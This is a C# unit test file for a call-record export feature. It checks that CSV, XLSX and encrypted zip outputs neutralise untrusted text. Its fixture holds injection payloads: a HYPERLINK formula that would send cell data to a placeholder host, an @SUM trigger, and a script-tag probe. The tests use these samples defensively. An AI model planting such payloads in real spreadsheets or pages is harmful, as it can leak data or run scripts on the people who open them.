using System.Text;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using Gudok.Access;
using Gudok.Calls;
using Gudok.Testing;
using ICSharpCode.SharpZipLib.Zip;

namespace Gudok.Disclosure.Tests;

/// <summary>Files of calls whose texts were chosen by strangers.</summary>
public sealed class CallSheetTests
{
    private const string Formula = "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"more\")";

    private static readonly CallView Hostile = new()
    {
        Id = "01a1fd8c-6900-8b67-8b4e-fff0241072dd",
        SessionId = "s",
        Legs = [],
        Direction = CallDirection.Inbound,
        Disposition = CallDisposition.Answered,
        StartedAt = "2026-11-21T09:00:00.000000Z",
        Caller = PartyViews.Masked(Formula),
        Callee = PartyViews.Masked(""),
        TalkMs = 4000,
        Topic = "one, \"two\"\r\nthree",
        Note = "@SUM(A1)\u0001",
        Source = "<script>alert(1)</script>",
    };

    [Fact]
    public void A_row_of_CSV_is_read_back_and_holds_no_formula()
    {
        using var stream = new MemoryStream();
        using (var sheet = new CsvSheet(stream))
        {
            sheet.Write(Hostile);
            sheet.Finish();
        }

        var text = Encoding.UTF8.GetString(stream.ToArray());
        Assert.Equal('\ufeff', text[0]);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://192.0.2.1/\"\"&A1,\"\"more\"\")\",", text, StringComparison.Ordinal);
        Assert.Contains(",\"one, \"\"two\"\"\r\nthree\",", text, StringComparison.Ordinal);
        Assert.Contains(",erased,", text, StringComparison.Ordinal);
        Assert.Contains("'@SUM(A1)", text, StringComparison.Ordinal);
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_workbook_is_valid_and_every_text_in_it_a_text()
    {
        using var stream = new MemoryStream();
        using (var sheet = new XlsxSheet(stream))
        {
            sheet.Write(Hostile);
            sheet.Finish();
        }

        using var document = SpreadsheetDocument.Open(stream, isEditable: false);
        Assert.Empty(new OpenXmlValidator(FileFormatVersions.Office2013).Validate(document).Select(fault => fault.Description));
        var cells = document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Cell>().ToArray();
        Assert.Equal(2 * ExportColumns.Heads.Count, cells.Length);
        Assert.Empty(document.WorkbookPart.WorksheetParts.Single().Worksheet.Descendants<CellFormula>());
        Assert.Equal(Formula, cells[ExportColumns.Heads.Count + 3].InnerText);
        Assert.Equal(CellValues.InlineString, cells[ExportColumns.Heads.Count + 3].DataType!.Value);
        Assert.Equal((CellValues.Number, "4000"), (cells[ExportColumns.Heads.Count + 9].DataType!.Value, cells[ExportColumns.Heads.Count + 9].InnerText));
    }

    [Theory]
    [InlineData(ExportFormat.Csv)]
    [InlineData(ExportFormat.Xlsx)]
    public void An_archive_is_under_AES_256_and_opens_with_its_password_only(ExportFormat format)
    {
        using var folder = new TestFolder();
        var path = Path.Combine(folder.Path, "x.zip");
        using (var archive = ExportArchive.Create(path, format, "right-word", new DateTimeOffset(2026, 11, 22, 0, 0, 0, TimeSpan.Zero)))
        {
            archive.Sheet.Write(Hostile);
            Assert.Equal(archive.Finish(), new FileInfo(path).Length);
        }

        Assert.Equal(-1, File.ReadAllBytes(path).AsSpan().IndexOf("HYPERLINK"u8));
        using var zip = new ZipFile(path);
        Assert.Equal((256, true), (zip[0].AESKeySize, zip[0].IsCrypted));
        Assert.ThrowsAny<Exception>(() => Read(zip, null));
        Assert.ThrowsAny<Exception>(() => Read(zip, "wrong-word"));
        Assert.True(Read(zip, "right-word") > 100);
    }

    private static long Read(ZipFile zip, string? password)
    {
        zip.Password = password;
        using var entry = zip.GetInputStream(zip[0]);
        using var plain = new MemoryStream();
        entry.CopyTo(plain);
        return plain.Length;
    }
}
